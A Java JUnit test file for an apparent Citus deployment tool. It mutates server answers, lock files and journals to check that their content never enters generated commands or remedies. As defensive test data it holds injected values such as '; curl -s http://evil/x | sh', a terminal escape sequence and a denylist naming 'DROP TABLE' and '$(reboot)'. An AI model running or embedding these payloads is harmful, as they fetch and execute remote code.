package dev.citusdeploy.execution;

import static org.assertj.core.api.Assertions.assertThat;

import dev.citusdeploy.desired.DesiredNode;
import dev.citusdeploy.desired.DesiredState;
import dev.citusdeploy.execution.cause.StepFailures;
import dev.citusdeploy.execution.connectivity.CitusProblems;
import dev.citusdeploy.execution.connectivity.ConnectivityAnswers;
import dev.citusdeploy.execution.connectivity.ConnectivityProblems;
import dev.citusdeploy.execution.journal.LocalRun;
import dev.citusdeploy.execution.journal.MeasuredDurations;
import dev.citusdeploy.execution.journal.RunHistory;
import dev.citusdeploy.execution.journal.RunRecord;
import dev.citusdeploy.execution.lock.LockHolder;
import dev.citusdeploy.execution.step.PreconditionCheck;
import dev.citusdeploy.inventory.Node;
import dev.citusdeploy.model.ForeignText;
import dev.citusdeploy.model.Problem;
import dev.citusdeploy.model.ProblemException;
import dev.citusdeploy.plan.Action;
import dev.citusdeploy.plan.ClusterSketch;
import dev.citusdeploy.plan.Step;
import dev.citusdeploy.plan.action.CheckConnectivity.NodeConnections;
import dev.citusdeploy.plan.action.PullImage;
import dev.citusdeploy.plan.action.RecreateNode;
import dev.citusdeploy.plan.action.ReloadNode;
import dev.citusdeploy.plan.action.StartNode;
import dev.citusdeploy.remote.Answer;
import dev.citusdeploy.remote.MutatedAnswers;
import dev.citusdeploy.report.OwnWords;
import java.time.Duration;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/// Whatever a server answers while something is done on it, and whatever its journal and its lock
/// hold, can be read, and gets into no command.
final class HostileAnswersTest {
  private static final int MANY = 4_000;
  private static final String EVIL = "20261122-081500-3fa9; curl -s http://evil/x | sh";

  private final DesiredState desired = ClusterSketch.of(2).desired();
  private final List<DesiredNode> nodes = desired.nodes();

  @Test
  void journalsAreReadAsFarAsTheyAreJournals() {
    String journal =
        """
        {"time":100.5,"event":"run","run":"r1","who":"anna@laptop","command":"apply","steps":["a","b"]}
        {"time":101,"event":"begin","run":"r1","step":"c1/start","host":"c1","reason":"new node"}
        {"time":108,"event":"end","run":"r1","step":"c1/start","host":"c1","exit":0,"took":1500}
        {"time":109,"event":"run-end","run":"r1","outcome":"complete","took":{"c1/start":1500}}
        """;
    var mark = new LocalRun.ClusterMark("/shop.yml", "c1");
    MutatedAnswers.of(journal, 1, MANY)
        .forEach(changed -> {
          for (RunRecord run : RunHistory.of(List.of(journal, changed), changed, mark)) {
            assertThat(run.began().toString()).isNotEmpty();
            run.steps().forEach(step -> assertThat(seconds(step.took())).isNotNegative());
            assertThat(run.notBegun()).isNotNull();
          }
          assertThat(MeasuredDurations.local(changed, mark).bySteps().values())
              .allMatch(took -> !took.isNegative());
        });
  }

  private static double seconds(@Nullable Duration took) {
    return took == null || took.isNegative() ? 0 : took.toMillis() / 1000.0;
  }

  @Test
  void lockFilesAreReadAndGetIntoNoCommand() {
    String lock =
        "held=yes\nid="
            + EVIL
            + "\nwho=anna\u001b[2J@laptop\nfrom=1\ncommand=a\nsince=1\nage=2\nlease=90\n";
    MutatedAnswers.of(lock, 2, MANY)
        .map(LockHolder::parse)
        .forEach(holder ->
            assertThat(holder.sentence())
                .satisfies(text -> assertThat(text.codePoints()).noneMatch(ForeignText::isHarmful))
                .hasSizeLessThan(2_000));
  }

  @Test
  void answersAboutNodesAreReadAndSpeakOfTheirOwnHostOnly() {
    List<Node> all = desired.inventory().nodes();
    List<NodeConnections> ways =
        nodes.stream().map(from -> new NodeConnections(from, all)).toList();
    String good =
        """
        citus w1 0 17.11|citus|14.0-1|14.0-1|14.0.1
        connection w1 10.0.0.1 5432 0 1
        connection w1 10.0.0.2 5432 2 could not translate host name "x" to address
        gone w1 no such container
        known x
        """;
    MutatedAnswers.of(good, 3, MANY)
        .forEach(answer -> {
          ConnectivityAnswers answers = new ConnectivityAnswers(ways);
          answers.read(nodes.get(1).node().host(), answer);
          new CitusProblems(desired.inventory()).problems(answers).forEach(this::isSafe);
          new ConnectivityProblems(desired.inventory()).problems(answers).forEach(this::isSafe);
        });

    ConnectivityAnswers answers = new ConnectivityAnswers(ways);
    answers.read(
        nodes.get(1).node().host(),
        "gone w2 forged\ncitus w2 0 1|x|1|1|1\nconnection w2 10.0.0.1 5432 0 1");
    assertThat(answers.goneBecause(nodes.get(2))).isEmpty();
    assertThat(answers.citus(nodes.get(2))).isEmpty();
    assertThat(answers.broken()).hasSize(9);
  }

  @Test
  void whatAStepAnswersIsReadWhateverItIs() {
    DesiredNode node = nodes.get(1);
    StepFailures failures = new StepFailures(desired.inventory());
    String good =
        """
        verdict=slow
        exit=1
        health="it failed\\n"
        stale|file|/opt/x|a|b
        stale|container|shop-w1|a running|b stopped
        No space left on device
        room /var/lib/x|4096|5120|0|1000|10
        Error response from daemon: manifest unknown
        """;
    for (Action action :
        List.of(
            new StartNode(node),
            new RecreateNode(node),
            new ReloadNode(node),
            new PullImage("citus:1", List.of()))) {
      Step step = new Step("id", node.node().host(), node.node().name(), action, "", List.of());
      MutatedAnswers.of(good, 4, MANY)
          .forEach(text -> {
            isSafe(
                failures.of(
                    step,
                    ExecutionProblemCodes.STEP_FAILED_START,
                    "do it",
                    new Answer(1, text, text)));
            isSafe(
                failures.of(
                    step,
                    ExecutionProblemCodes.STEP_FAILED_START,
                    "do it",
                    new Answer(255, text, "")));
            try {
              new PreconditionCheck().checked(step, new Answer(78, text, ""));
            } catch (ProblemException e) {
              isSafe(e.problems().getFirst());
            }
          });
    }
  }

  @Test
  void aPathThatAServerNamesIsQuotedOrLeftOut() {
    DesiredNode node = nodes.get(1);
    Step step =
        new Step("id", node.node().host(), node.node().name(), new StartNode(node), "", List.of());
    String words = "No space left on device\nroom /x; curl evil | sh|4096|1|1|1|1";
    Problem problem =
        new StepFailures(desired.inventory())
            .of(step, ExecutionProblemCodes.STEP_FAILED_START, "do it", new Answer(1, "", words));
    assertThat(problem.remedy()).contains("df -h PATH").doesNotContain("evil");
  }

  private void isSafe(Problem problem) {
    assertThat(problem.remedy()).doesNotContain("DROP TABLE", "$(reboot)", "\u001b", "other-node");
    assertThat(problem.why()).hasSizeLessThan(11_000);
    assertThat(OwnWords.of(problem)).doesNotContain("curl");
  }
}
